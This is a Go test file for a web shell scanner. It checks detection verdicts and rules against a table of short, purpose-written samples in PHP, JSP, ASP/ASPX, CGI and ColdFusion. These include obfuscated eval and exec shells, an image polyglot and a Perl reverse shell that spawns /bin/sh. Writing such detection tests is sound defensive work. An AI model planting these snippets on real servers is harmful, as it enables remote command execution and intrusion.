package webshell

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"strings"
	"testing"
)

// gzb64 returns base64(gzdeflate(s)): the packing of many PHP payloads.
func gzb64(s string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write([]byte(s))
	w.Close()
	return base64.StdEncoding.EncodeToString(b.Bytes())
}

// The snippets below are written for these tests, after the kinds of code web shells use; no
// sample is copied from a collection.
var cases = []struct {
	name, file, text string
	verdict          string // expected verdict
	rule             string // a rule that must fire ("" for none in particular)
}{
	// --- PHP: input straight into execution
	{"php eval post", "a.php", `<?php @eval($_POST['k']); ?>`, VerdictWebshell, "php.input-eval"},
	{"php system get", "a.php", "<?php echo system($_GET[\"c\"] . ' 2>&1'); ?>", VerdictWebshell, "php.input-exec"},
	{"php assert request", "a.php", "<?php assert(stripslashes($_REQUEST['x'])); ?>", VerdictWebshell, "php.input-eval"},
	{"php header input", "a.php", `<?php eval($_SERVER['HTTP_X_CODE']); ?>`, VerdictWebshell, "php.input-eval"},
	{"php raw body", "a.php", `<?php eval(file_get_contents('php://input')); ?>`, VerdictWebshell, "php.input-eval"},
	{"php backticks", "a.php", "<?php $o = `{$_GET['cmd']}`; echo $o; ?>", VerdictWebshell, "php.input-exec"},
	{"php tainted variable", "a.php", "<?php\n$c = trim($_POST['cmd']);\n$out = shell_exec($c);\necho \"<pre>$out</pre>\";\n", VerdictWebshell, "php.input-exec"},
	{"php function from input", "a.php", `<?php $_GET['f']($_GET['a']); ?>`, VerdictWebshell, "php.input-callback"},
	{"php callback", "a.php", `<?php call_user_func($_REQUEST['fn'], $_REQUEST['arg']); ?>`, VerdictWebshell, "php.input-callback"},
	{"php array_map assert", "a.php", `<?php array_map('assert', array($_POST['z'])); ?>`, VerdictWebshell, "php.input-callback"},
	{"php preg e", "a.php", `<?php preg_replace('/.*/e', $_POST['p'], ''); ?>`, VerdictWebshell, "php.input-eval"},
	{"php include input", "a.php", `<?php include($_GET['page']); ?>`, VerdictWebshell, "php.include-input"},
	{"php wrapper function", "a.php", "<?php\nfunction run($x) { $r = ''; if (function_exists('passthru')) { passthru($x); } return $r; }\nrun($_POST['c']);\n", VerdictWebshell, "php.input-exec"},
	{"php register_globals exec", "a.php", "<form method=post><input name=\"cmd\"></form><?php\nif ($cmd == '') { $cmd = 'id'; }\nsystem($cmd);\n", VerdictWebshell, "php.form-global-exec"},
	{"php register_globals writer", "e.php", "<form method=post><textarea name=\"body\"></textarea><input name=\"target\"></form><?php\n$h = fopen($target, 'w');\nfwrite($h, $body);\n", VerdictSuspicious, "php.form-global-write"},
	{"php assigned form field", "f.php", "<form><input name=\"cmd\"></form><?php\n$cmd = 'uptime';\n$r = exec($cmd);\necho htmlspecialchars($r);\n", VerdictClean, ""},
	// --- PHP: obfuscation
	{"php eval gzinflate b64", "a.php", `<?php eval(gzinflate(base64_decode('` + gzb64(`echo "hi";`) + `'))); ?>`, VerdictWebshell, "php.eval-decode"},
	{"php decoded payload scanned", "a.php", `<?php eval(gzinflate(base64_decode('` + gzb64(`system($_GET['q']);`) + `'))); ?>`, VerdictWebshell, "php.input-exec"},
	{"php split name", "a.php", `<?php $f = 'as'.'se'.'rt'; $f($_POST['v']); ?>`, VerdictWebshell, "php.input-callback"},
	{"php reversed name", "a.php", `<?php $f = strrev('metsys'); $f($_COOKIE['c']); ?>`, VerdictWebshell, "php.input-callback"},
	{"php str_replace name", "a.php", `<?php $k = str_replace('#', '', 'a#s#s#e#r#t'); $k($_POST['q']); ?>`, VerdictWebshell, "php.input-callback"},
	{"php hex name", "a.php", `<?php $f = "\x73\x79\x73\x74\x65\x6d"; $f($_GET['c']); ?>`, VerdictWebshell, "php.obf-func-name"},
	{"php chr name", "a.php", `<?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST[1]); ?>`, VerdictWebshell, "php.input-callback"},
	{"php superglobal by name", "a.php", `<?php $n = '_PO'.'ST'; $v = $$n; eval($v['x']); ?>`, VerdictWebshell, "php.input-eval"},
	{"php image polyglot", "logo.gif", "GIF89a\x01\x00\x01\x00<?php system($_GET['c']); ?>", VerdictWebshell, "php.image-polyglot"},
	// --- PHP: benign
	{"php plain page", "index.php", "<?php\n$title = htmlspecialchars($_GET['q'] ?? '');\necho \"<h1>$title</h1>\";\n", VerdictClean, ""},
	{"php sql in backticks", "db.php", "<?php $sql = \"SELECT * FROM `wp_posts` WHERE id = \" . (int) $_GET['id']; ?>", VerdictClean, ""},
	{"php fixed command", "v.php", "<?php $v = exec('gs --version'); echo esc_html($v); ?>", VerdictClean, ""},
	{"php comment mentions eval", "c.php", "<?php\n// never do eval($_POST['x']) here\n/* system($_GET['c']) is dangerous */\necho 1;\n", VerdictSuspicious, "php.input-exec-text"},
	{"php callbacks of data", "h.php", "<?php $clean = array_map('trim', $_POST); call_user_func_array($this->handler, array($clean)); ?>", VerdictClean, ""},
	{"php gzinflate of data", "z.php", "<?php $data = @gzinflate(substr($body, 10)); echo strlen($data); ?>", VerdictClean, ""},
	{"php mail escapes", "m.php", `<?php $re = '/[\x00-\x1f\x7f]/'; echo preg_replace($re, '', $_POST['name']); ?>`, VerdictClean, ""},
	// --- JSP
	{"jsp runtime exec", "a.jsp", `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>`, VerdictWebshell, "jsp.input-exec"},
	{"jsp tainted processbuilder", "a.jsp", "<%\nString c = request.getParameter(\"cmd\");\nProcessBuilder pb = new ProcessBuilder(\"/bin/sh\", \"-c\", c);\npb.start();\n%>", VerdictWebshell, "jsp.input-exec"},
	{"jsp class loader", "a.jsp", `<%! class L extends ClassLoader { L(ClassLoader p){super(p);} Class d(byte[] b){ return super.defineClass(b,0,b.length);} } %><% byte[] k = java.util.Base64.getDecoder().decode(request.getReader().readLine()); javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); %>`, VerdictWebshell, "jsp.classloader"},
	{"jsp webroot writer", "u.jsp", `<% new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(request.getParameter("d").getBytes()); %>`, VerdictWebshell, "jsp.write-input"},
	{"jsp reflection", "r.jsp", `<% Class c = Class.forName("java.lang.Runtime"); Object r = c.getMethod("getRuntime").invoke(null); %>`, VerdictSuspicious, "jsp.reflect-exec"},
	{"jsp benign", "hello.jsp", `<%@ page contentType="text/html" %><html><body>Hello <%= request.getParameter("name") %></body></html>`, VerdictClean, ""},
	// --- ASP / ASPX
	{"asp eval request", "a.asp", `<%eval request("pass")%>`, VerdictWebshell, "asp.input-eval"},
	{"asp execute", "a.asp", `<% Execute(Request.Form("c")) %>`, VerdictWebshell, "asp.input-eval"},
	{"aspx unsafe eval", "a.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`, VerdictWebshell, "asp.input-eval"},
	{"asp wscript", "s.asp", "<%\nSet sh = Server.CreateObject(\"WScript.Shell\")\ncmd = Request(\"c\")\nSet e = sh.Exec(\"cmd.exe /c \" & cmd)\nResponse.Write e.StdOut.ReadAll\n%>", VerdictWebshell, "asp.input-exec"},
	{"aspx process", "p.aspx", "<%@ Page Language=\"C#\" %><% var psi = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request[\"c\"]); System.Diagnostics.Process.Start(psi); %>", VerdictWebshell, "asp.input-exec"},
	{"asp benign", "d.asp", `<% Response.Write("Hello " & Server.HTMLEncode(Request.QueryString("n"))) %>`, VerdictClean, ""},
	// --- CGI
	{"perl cgi", "x.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint `$c`;\n", VerdictWebshell, "cgi.input-exec"},
	{"perl reverse shell", "r.pl", "#!/usr/bin/perl\nuse Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\nconnect(S,sockaddr_in(4444,inet_aton($ARGV[0])));\nopen(STDIN,\">&S\");open(STDOUT,\">&S\");\nexec('/bin/sh -i');\n", VerdictSuspicious, "cgi.reverse-shell"},
	{"python cgi", "x.py", "#!/usr/bin/python3\nimport cgi, os\nform = cgi.FieldStorage()\nc = form.getvalue('c')\nprint(os.popen(c).read())\n", VerdictWebshell, "cgi.input-exec"},
	{"perl benign", "h.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header, 'Hello ', $q->escapeHTML($q->param('n'));\n", VerdictClean, ""},
	// --- CFM
	{"cfm execute", "a.cfm", `<cfexecute name="#form.cmd#" arguments="#form.args#" timeout="10" variable="out"></cfexecute><cfoutput>#out#</cfoutput>`, VerdictWebshell, "cfm.execute"},
	{"cfm java runtime", "a.cfm", `<cfset r = createObject("java", "java.lang.Runtime").getRuntime().exec(url.c)>`, VerdictWebshell, "cfm.java-runtime"},
	{"cfm benign", "a.cfm", `<cfoutput>Hello #encodeForHTML(url.name)#</cfoutput>`, VerdictClean, ""},
	// --- text renamed
	{"txt php one-liner", "notes.txt", "a list:\n* <?php @eval($_POST[x]);?>\n", VerdictWebshell, "php.input-eval"},
	{"unknown text", "readme.txt", "Just some words about system (the whole) and eval (ok).", VerdictClean, ""},
	{"utf16 jsp", "w.jsp", utf16(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`), VerdictWebshell, "jsp.input-exec"},
}

func utf16(s string) string {
	var b strings.Builder
	b.WriteString("\xff\xfe")
	for _, c := range []byte(s) {
		b.WriteByte(c)
		b.WriteByte(0)
	}
	return b.String()
}

func TestScanCases(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := Scan(c.file, []byte(c.text))
			if r.Verdict != c.verdict {
				t.Errorf("verdict %s (score %d), want %s; reasons %v", r.Verdict, r.Score, c.verdict, r.Reasons)
			}
			if c.rule != "" && !hasRule(r, c.rule) {
				t.Errorf("rule %s did not fire; reasons %v", c.rule, r.Reasons)
			}
			sum := 0
			for _, x := range r.Reasons {
				if len(x.Evidence) > maxEvidence {
					t.Errorf("evidence of %d bytes", len(x.Evidence))
				}
				sum += x.Weight
			}
			if r.Score > sum {
				t.Errorf("score %d above the sum of weights %d", r.Score, sum)
			}
		})
	}
}

func hasRule(r Result, rule string) bool {
	for _, x := range r.Reasons {
		if x.Rule == rule {
			return true
		}
	}
	return false
}

func TestDetectLanguage(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"a.php", "<?php echo 1;", LangPHP},
		{"a.PHTML", "<?php echo 1;", LangPHP},
		{"a.php", "<%@ Page Language=\"C#\" %><% Response.Write(1); %>", LangASPX},
		{"a.jsp", "<%= 1 %>", LangJSP},
		{"a.jspx", "<jsp:root/>", LangJSP},
		{"a.asp", "<% Response.Write(1) %>", LangASP},
		{"x.cgi", "#!/usr/bin/perl\nprint 1;", LangPerl},
		{"x.cgi", "#!/usr/bin/env python3\nprint(1)", LangPython},
		{"x.txt", "<% String s = request.getParameter(\"a\"); out.print(s); %>", LangJSP},
		{"x.txt", "<cfoutput>1</cfoutput>", LangCFM},
		{"x.txt", "<?xml version=\"1.0\"?><a/>", LangUnknown},
		{"x.png", "\x89PNG\r\n\x1a\n<?php echo 1; ?>", LangPHP},
		{"x.css", "body { color: red }", LangUnknown},
	} {
		if got := DetectLanguage(c.name, []byte(c.text)); got != c.want {
			t.Errorf("DetectLanguage(%q, %.30q) = %s, want %s", c.name, c.text, got, c.want)
		}
	}
}

func TestEvaluator(t *testing.T) {
	for _, c := range []struct{ expr, want string }{
		{`'as'.'sert'`, "assert"},
		{`strrev('tressa')`, "assert"},
		{`str_rot13('flfgrz')`, "system"},
		{`base64_decode('c3lzdGVt')`, "system"},
		{`"\x65\x76\x61\x6c"`, "eval"},
		{`chr(101).chr(120).chr(101).chr(99)`, "exec"},
		{`str_replace('x','','sxyxs')`, "sys"},
		{`substr('xxassert', 2)`, "assert"},
		{`substr_replace('asxxx','sert',2)`, "assert"},
		{`('!'^'@').'ssert'`, "assert"},
		{`gzinflate(base64_decode('` + gzb64("phpinfo();") + `'))`, "phpinfo();"},
	} {
		got, ok := evalPHP([]byte(c.expr), 0)
		if !ok || string(got) != c.want {
			t.Errorf("eval %s = %q, %v; want %q", c.expr, got, ok, c.want)
		}
	}
	for _, bad := range []string{`$x`, `foo(`, `'unterminated`, `chr('a')`, `substr('a')`, ``} {
		if v, ok := evalPHP([]byte(bad), 0); ok && bad != "" {
			t.Errorf("eval %q = %q, want failure", bad, v)
		}
	}
}

func TestPHPLexKinds(t *testing.T) {
	src := []byte("<p>don't</p><?php $a = 'x(y)'; // c()\n$b = \"$q\"; /* z() */ `ls`; ?>tail")
	code, kind := phpLex(src)
	if len(code) != len(src) || len(kind) != len(src) {
		t.Fatalf("lengths %d %d, want %d", len(code), len(kind), len(src))
	}
	if bytes.Contains(code, []byte("c()")) || bytes.Contains(code, []byte("z()")) {
		t.Errorf("comments kept: %q", code)
	}
	at := func(sub string) byte { return kind[bytes.Index(src, []byte(sub))] }
	if at("don't") != kOutside || at("x(y)") != kSingle || at("$q") != kDouble || at("ls") != kBacktick || at("$b") != kCode || at("tail") != kOutside {
		t.Errorf("kinds wrong: %v", kind)
	}
}

func TestMaxScanAndEmpty(t *testing.T) {
	if r := Scan("a.php", nil); r.Verdict != VerdictClean || r.Score != 0 {
		t.Errorf("empty file: %+v", r)
	}
	big := append([]byte("<?php // "), bytes.Repeat([]byte("a"), MaxScan+10)...)
	big = append(big, []byte("\neval($_POST['x']);")...)
	if r := Scan("a.php", big); hasRule(r, "php.input-eval") {
		t.Errorf("text past MaxScan was read")
	}
}

func FuzzScan(f *testing.F) {
	for _, c := range cases {
		f.Add(c.file, []byte(c.text))
	}
	f.Add("a.php", []byte("<?php $a='\\x"))
	f.Add("a.php", []byte("<?php eval(gzinflate(base64_decode('////'))); $$a(; ${'_'.'POST'}"))
	f.Add("a.jsp", []byte("<% new byte[]{1,2,,}; \"QUFB\" %>"))
	f.Fuzz(func(t *testing.T, name string, b []byte) {
		r := Scan(name, b)
		switch r.Verdict {
		case VerdictClean, VerdictSuspicious, VerdictWebshell:
		default:
			t.Fatalf("verdict %q", r.Verdict)
		}
		if (r.Verdict == VerdictWebshell) != (r.Score >= ScoreWebshell) {
			t.Fatalf("verdict %s for score %d", r.Verdict, r.Score)
		}
		seen := map[string]bool{}
		for _, x := range r.Reasons {
			if seen[x.Rule] || x.Weight <= 0 || len(x.Evidence) > maxEvidence {
				t.Fatalf("bad reason %+v", x)
			}
			seen[x.Rule] = true
		}
	})
}
